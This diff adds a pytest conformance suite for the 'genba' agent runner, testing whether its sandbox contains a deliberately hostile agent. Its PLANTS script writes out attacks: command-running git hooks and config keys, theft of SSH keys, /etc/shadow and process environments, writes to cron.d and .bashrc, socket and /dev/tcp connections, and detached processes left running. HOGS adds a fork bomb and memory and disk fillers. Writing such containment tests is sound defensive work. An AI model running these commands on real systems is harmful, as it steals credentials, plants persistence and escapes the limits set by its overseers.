@@ -1,0 +1,184 @@
+"""A hostile agent, through the front door: whatever it plants, reads, reaches for or leaves, the host does not feel it.
+
+A test class inherits the suite and gives it `walled`: a project whose settings name the kind of walls.
+"""
+
+import json
+import secrets
+import socket
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+import yaml
+
+from genba.testing.sandbox_conformance import living_with
+from tests.project import Project
+
+PLANTS = r"""
+owned=$1; root=$2; home=$3; port=$4; sock=$5; word=$6
+evil="touch $owned"
+own=$(git rev-parse --git-dir)
+
+# what git runs by itself, in the agent's own repository and in whatever it can name
+mkdir -p "$own/hooks"
+for hook in pre-commit post-commit post-checkout post-merge post-rewrite reference-transaction post-index-change \
+            pre-push update post-update pre-receive proc-receive sendemail-validate fsmonitor-watchman; do
+  for place in "$own/hooks" "$root/.git/hooks" .git/hooks; do
+    printf '#!/bin/sh\n%s\n' "$evil" > "$place/$hook" && chmod +x "$place/$hook"
+  done
+done 2>/dev/null
+rm -f "$own/hooks"/*  # its own commits shall work; the rest stays planted
+for name in core.fsmonitor core.sshCommand core.pager core.editor core.alternateRefsCommand diff.external \
+            uploadpack.packObjectsHook filter.evil.clean filter.evil.smudge filter.evil.process merge.evil.driver \
+            diff.evil.command diff.evil.textconv credential.helper gpg.program; do
+  git config -f "$root/.git/config" $name "$evil"
+  git config -f "$own/evil" $name "$evil; cat"
+done 2>/dev/null
+printf '#!/bin/sh\n%s\n' "$evil" > evil.sh; chmod +x evil.sh
+
+# attributes, embedded repositories, links
+printf '* filter=evil diff=evil merge=evil\n' > .gitattributes
+git init -q sub 2>/dev/null
+(cd sub && git -c user.name=E -c user.email=e@localhost commit -q --allow-empty -m inner)
+printf '[core]\n\tfsmonitor = %s\n\thooksPath = ../hooks\n' "$evil" >> sub/.git/config
+ln -s "$home/.ssh/id_ed25519" key-link
+ln -s "$root" root-link
+ln -s / slash-link
+
+# the objects of the user, and stores that are nobody's
+mkdir -p "$own/objects/info"
+echo "$home/.ssh" >> "$own/objects/info/alternates"
+rm -rf "$root/.git/objects" "$root/.git/refs" "$root/README.md" 2>/dev/null
+git update-ref refs/heads/main HEAD~0 2>/dev/null; git branch -f other 2>/dev/null; git tag evil 2>/dev/null
+
+# reading and writing outside
+cat "$home/.ssh/id_ed25519" > stolen-key 2>/dev/null
+cat key-link slash-link/etc/shadow /etc/shadow > stolen-files 2>/dev/null
+env > stolen-environment; cat /proc/[0-9]*/environ >> stolen-environment 2>/dev/null
+for place in "$home" "$root" "$root/.git" / /usr/local/bin /etc/cron.d /tmp /var/spool; do
+  echo x > "$place/planted-$word"
+done 2>/dev/null
+echo "$evil" >> "$home/.bashrc" 2>/dev/null
+bash -c "echo stolen > /dev/tcp/127.0.0.1/$port" 2>/dev/null && echo connected > reached
+python3 - "$sock" <<'PYTHON'
+import socket, sys
+for address in (sys.argv[1], "\0" + sys.argv[1]):
+    try:
+        with socket.socket(socket.AF_UNIX) as one:
+            one.connect(address)
+            open("reached", "a").write("connected\n")
+    except OSError:
+        pass
+PYTHON
+
+# what stays behind
+(setsid env -i /usr/bin/sleep "$word" >/dev/null 2>&1 </dev/null &)
+nohup setsid /usr/bin/sleep "$word" >/dev/null 2>&1 &
+
+git add -A 2>/dev/null
+git commit -q -m "Plant everything"
+exit 0
+"""
+
+HOGS = {
+    "memory": "python3 -c 'import time\nheld = []\nwhile True:\n  held.append(b\"x\" * 4000000)\n  time.sleep(.02)'",
+    "processes": "python3 -c 'import os, time\nfor _ in range(400):\n  try:\n    if os.fork() == 0: break\n"
+    "  except OSError: time.sleep(.01)\ntime.sleep(60)'",
+    "disk": "i=0; while true; do i=$((i+1)); head -c 2000000 /dev/zero > part-$i; sleep 0.02; done",
+}
+LIMITS = {"memory": ("memory_mb", 64), "processes": ("processes", 40), "disk": ("disk_mb", 20)}
+
+
+def settle(project: Project, **sandbox: object) -> None:
+    """Write the settings of the walls, beside what a kind needs for itself."""
+    file = project.root / ".genba" / "config.yaml"
+    known = yaml.safe_load(file.read_text()) if file.exists() else {}
+    known.setdefault("sandbox", {}).update(sandbox)
+    project.write(".genba/config.yaml", yaml.safe_dump(known))
+
+
+@contextmanager
+def listening(path: str) -> Iterator[tuple[int, list[socket.socket]]]:
+    """Servers of the host that nobody inside may ever reach: loopback, a path, an abstract name."""
+    with (
+        socket.create_server(("127.0.0.1", 0)) as loopback,
+        socket.socket(socket.AF_UNIX) as named,
+        socket.socket(socket.AF_UNIX) as abstract,
+    ):
+        named.bind(path)
+        abstract.bind(f"\0{path}")
+        for server in (named, abstract):
+            server.listen()
+        for server in (loopback, named, abstract):
+            server.setblocking(False)
+        yield loopback.getsockname()[1], [loopback, named, abstract]
+
+
+class HostileRunSuite:
+    """Fixture: `walled`, a project with walls. Each test is one run of `genba run`."""
+
+    def test_whatever_it_plants_nothing_happens_on_the_host(self, walled: Project, tmp_path: Path) -> None:
+        word, secret = f"{100_000 + secrets.randbelow(10**5)}.{secrets.randbelow(10**9)}", secrets.token_hex(20)
+        owned, home = tmp_path / "owned", tmp_path / "somebody"
+        (home / ".ssh").mkdir(parents=True)
+        (home / ".ssh" / "id_ed25519").write_text(secret)
+        walled.environment |= {"HOME": str(home), "GENBA_TEST_TOKEN": secret, "AWS_SECRET_ACCESS_KEY": secret}
+        path = f"/tmp/genba-{secrets.token_hex(8)}"
+        before = walled.git("rev-parse", "main"), walled.read("README.md"), (walled.root / ".git/config").read_text()
+        with listening(path) as (port, servers):
+            try:
+                words = [str(each) for each in (owned, walled.root, home, port, path, word)]
+                walled.agent(adapter={"type": "custom", "command": ["bash", "-c", PLANTS, "bash", *words]})
+                declared = walled.git("rev-parse", "main")
+                done = walled.genba("run", "worker", "--json")
+                for server in servers:
+                    with pytest.raises(BlockingIOError):
+                        server.accept()
+            finally:
+                Path(path).unlink(missing_ok=True)
+        assert done.json["outcome"] in ("completed", "failed"), done.err
+        assert "Plant everything" in walled.git("log", "--all", "--format=%s"), done.err
+        walled.git("status", "--short")
+        walled.git("fsck", "--strict", "--no-dangling")
+        assert not owned.exists()
+        assert living_with(word) == []
+        self._nothing_was_read(walled, secret)
+        self._nothing_was_written(walled, before, declared, home, word)
+
+    def _nothing_was_read(self, walled: Project, secret: str) -> None:
+        everything = walled.git("log", "--all", "-p", "--format=%H %s")
+        kept = [
+            file for file in (walled.root / ".git" / "genba").rglob("*") if file.is_file() and not file.is_symlink()
+        ]
+        told = walled.genba("logs", json.loads(walled.genba("logs", "--json").out.splitlines()[0])["run"], "--json").out
+        assert secret not in everything
+        assert secret not in told
+        assert [file for file in kept if secret.encode() in file.read_bytes()] == []
+
+    def _nothing_was_written(
+        self, walled: Project, before: tuple[str, str, str], declared: str, home: Path, word: str
+    ) -> None:
+        first, readme, config = before
+        assert walled.git("merge-base", "--is-ancestor", first, declared) == ""
+        assert walled.git("merge-base", "--is-ancestor", declared, "main") == ""
+        assert walled.git("show", "main:README.md") + "\n" == readme
+        assert walled.read("README.md") == readme
+        assert (walled.root / ".git/config").read_text() == config
+        assert {"other", "evil"} & set(walled.git("for-each-ref", "--format=%(refname:short)").split()) == set()
+        assert [hook.name for hook in (walled.root / ".git/hooks").glob("*") if hook.suffix != ".sample"] == []
+        assert sorted(file.name for file in home.iterdir()) == [".ssh"]
+        for place in (walled.root, walled.root / ".git", Path("/usr/local/bin"), Path("/etc/cron.d"), Path("/tmp")):
+            assert not (place / f"planted-{word}").exists()
+
+    @pytest.mark.parametrize("kind", HOGS)
+    def test_the_run_of_a_hog_ends_with_its_violation_named(self, walled: Project, kind: str) -> None:
+        name, value = LIMITS[kind]
+        settle(walled, limits={name: value})
+        walled.agent(adapter={"type": "custom", "command": ["bash", "-c", HOGS[kind]]})
+        done = walled.genba("run", "worker", "--json")
+        assert done.json["outcome"] == "failed"
+        assert f"sandbox.limits.{name}" in done.out + done.err, done.out + done.err
+        told = [event for event in walled.events() if f"sandbox.limits.{name}" in json.dumps(event)]
+        assert told
